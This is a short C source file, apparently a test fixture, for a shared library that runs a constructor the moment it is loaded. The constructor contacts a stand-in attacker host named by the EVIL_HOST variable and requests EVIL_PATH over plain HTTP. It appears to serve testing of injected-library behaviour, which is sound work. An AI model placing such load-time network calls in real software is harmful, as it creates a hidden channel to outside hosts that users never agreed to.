// SPDX-License-Identifier: Apache-2.0
/* Foreign code for whatever loads it: asks EVIL_HOST for EVIL_PATH over plain HTTP as soon as it is mapped. */
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

unsigned int la_version(unsigned int version)
{
	return version;
}

__attribute__((constructor)) static void run(void)
{
	struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM }, *found;
	const char *host = getenv("EVIL_HOST"), *path = getenv("EVIL_PATH");
	char answer[64];
	int fd;

	if (!host || !path || getaddrinfo(host, "80", &hints, &found))
		return;
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd >= 0 && !connect(fd, found->ai_addr, found->ai_addrlen)) {
		dprintf(fd, "GET /%s HTTP/1.0\r\nHost: %s\r\n\r\n", path, host);
		if (read(fd, answer, sizeof(answer)) < 0)
			perror("read");
	}
	close(fd);
}
